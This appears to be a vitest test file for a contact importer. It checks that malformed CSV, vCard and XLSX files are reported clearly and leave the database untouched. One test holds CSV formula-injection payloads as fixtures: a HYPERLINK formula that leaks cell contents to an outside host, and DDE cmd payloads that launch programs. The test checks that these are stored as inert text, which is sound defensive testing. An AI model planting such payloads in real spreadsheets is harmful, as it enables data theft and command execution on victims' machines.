/**
 * Every malformed file of the shared corpus: a clear problem naming the line or record, and an
 * import attempt that changes nothing in the base (unless the user accepts a partial import,
 * which then imports exactly what the report says).
 */
import { readdirSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { openTestEngine } from '../engine/test-support';
import { CORPUS_DIR, readCorpusFile } from './corpus-reader';
import { importRecords, ImportRefusedError } from './import-run';
import { describeProblem } from './problems';

const COVERED = new Set<string>();

/** Reads a malformed file, tries to import it and checks the base is untouched. */
async function refused(path: string) {
  COVERED.add(path);
  const read = await readCorpusFile(path);
  const engine = await openTestEngine();
  const before = engine.rows.size;
  await expect(importRecords(engine, { source: read.source, analysis: read.analysis, duplicates: 'create' })).rejects.toBeInstanceOf(ImportRefusedError);
  expect(engine.rows.size).toBe(before);
  expect(engine.canUndo()).toBe(false);
  await engine.close();
  return read;
}

describe('import corpus: malformed files get a clear message and change nothing', () => {
  it('real_zero_bytes.csv: "The file is empty."', async () => {
    const { analysis } = await refused('malformed/real_zero_bytes.csv');
    expect(analysis.problems).toEqual([expect.objectContaining({ code: 'empty', severity: 'fatal' })]);
    expect(describeProblem(analysis.problems[0])).toBe('The file is empty.');
  });

  it('derived_header_only_google.csv: header only, names line 1', async () => {
    const { analysis } = await refused('malformed/derived_header_only_google.csv');
    expect(analysis.records).toBe(0);
    expect(analysis.problems).toEqual([expect.objectContaining({ code: 'headerOnly', line: 1 })]);
    expect(describeProblem(analysis.problems[0])).toContain('line 1');
  });

  it('real_bare_quote_in_unquoted_field.csv: the bare quote is named with line and column', async () => {
    const { analysis } = await refused('malformed/real_bare_quote_in_unquoted_field.csv');
    expect(analysis.problems).toEqual([expect.objectContaining({ code: 'bareQuote', line: 2, params: { column: 1 } })]);
    expect(describeProblem(analysis.problems[0])).toBe('Line 2, column 1: a quote inside a field that is not quoted.');
  });

  it('real_ragged_row_4col_header_29col_row.csv: more fields than the header, on line 2', async () => {
    const { analysis } = await refused('malformed/real_ragged_row_4col_header_29col_row.csv');
    expect(analysis.problems).toEqual([expect.objectContaining({ code: 'tooManyFields', line: 2, params: { count: 29, expected: 4 } })]);
    expect(describeProblem(analysis.problems[0])).toBe('Line 2 has 29 fields, but the header has 4.');
  });

  it('real_mixed_tab_comma_delimiters.csv: mixed delimiters named, ragged lines listed', async () => {
    const { analysis } = await refused('malformed/real_mixed_tab_comma_delimiters.csv');
    expect(analysis.dialect?.delimiter).toBe('\t');
    expect(analysis.problems[0]).toMatchObject({ code: 'mixedDelimiters', line: 1 });
    expect(describeProblem(analysis.problems[0])).toBe('Line 1 is separated by ",", the other lines by tab: the file mixes delimiters.');
    expect(analysis.problems.filter((found) => found.code === 'tooManyFields').map((found) => found.line)).toEqual([2, 3, 4]);
  });

  it('derived_truncated_vcard_mid_photo.vcf: the cut-off contact is named; accepting a partial import stores exactly the 4 whole ones', async () => {
    const { analysis, source } = await refused('malformed/derived_truncated_vcard_mid_photo.vcf');
    expect(analysis.problems).toEqual([expect.objectContaining({ code: 'vcardUnterminated', record: 5, line: 98 })]);
    expect(describeProblem(analysis.problems[0])).toBe('Contact 5 (line 98) has no END:VCARD: the file is cut off.');
    const engine = await openTestEngine();
    const report = await importRecords(engine, { source, analysis, duplicates: 'create', acceptPartial: true });
    expect(report.skipped).toEqual([expect.objectContaining({ record: 5, line: 98, reason: 'problem' })]);
    const people = [...engine.rows.values()].filter((row) => row.section === 'people');
    expect(people.map((row) => row.v.lastName ?? row.v.firstName).sort()).toEqual(['Doe', 'JPG', 'incomplete', 'line']);
    expect(report.created).toBe(people.length + report.createdOrgs);
    await engine.close();
  });

  it('derived_xlsx_bytes_named_csv.csv: an XLSX renamed .csv is read as XLSX', async () => {
    COVERED.add('malformed/derived_xlsx_bytes_named_csv.csv');
    const { analysis, records } = await readCorpusFile('malformed/derived_xlsx_bytes_named_csv.csv');
    expect(analysis.format).toBe('xlsx');
    expect(records.map((record) => record.values.firstName)).toEqual(['João', 'Maria']);
  });

  it('derived_extremely_long_line_180k.csv: a 180k-character field is read whole, the next row too', async () => {
    COVERED.add('malformed/derived_extremely_long_line_180k.csv');
    const { analysis, records } = await readCorpusFile('malformed/derived_extremely_long_line_180k.csv');
    expect(analysis.problems).toEqual([]);
    expect(records).toHaveLength(2);
    expect(String(records[0].values.notes).length).toBeGreaterThan(179_000);
    expect(String(records[0].values.notes).startsWith('/9j/4AAQ')).toBe(true);
    expect(records[1]).toMatchObject({ line: 3, values: { firstName: 'Doug', lastName: 'White', notes: 'after the long line' } });
  });

  it('derived_formula_injection_cells.csv: formula-like text is stored as text, exactly', async () => {
    COVERED.add('malformed/derived_formula_injection_cells.csv');
    const { analysis, records, source } = await readCorpusFile('malformed/derived_formula_injection_cells.csv');
    expect(records).toHaveLength(8);
    expect(records[0].values.notes).toBe('=HYPERLINK("http://contextis.co.uk?leak="&A1&A2,"Error: please click for further information")');
    expect(records[2].values.phones).toEqual([{ kind: 'other', value: "=10+20+cmd|' /C calc'!A0" }]);
    expect(records[3].values.lastName).toBe("=cmd|' /C notepad'!'A1'");
    expect(records[7].values.notes).toContain('=1+1');
    const engine = await openTestEngine();
    const report = await importRecords(engine, { source, analysis, duplicates: 'create' });
    const stored = engine.rows.get(report.createdIds.find((id) => engine.rows.get(id)?.v.lastName === "=cmd|' /C notepad'!'A1'")!);
    expect(typeof stored?.v.lastName).toBe('string');
    await engine.close();
  });

  it('every malformed file of the corpus has a test here', () => {
    const files = readdirSync(`${CORPUS_DIR}malformed`).map((name) => `malformed/${name}`);
    expect(files.filter((file) => !COVERED.has(file))).toEqual([]);
  });
});
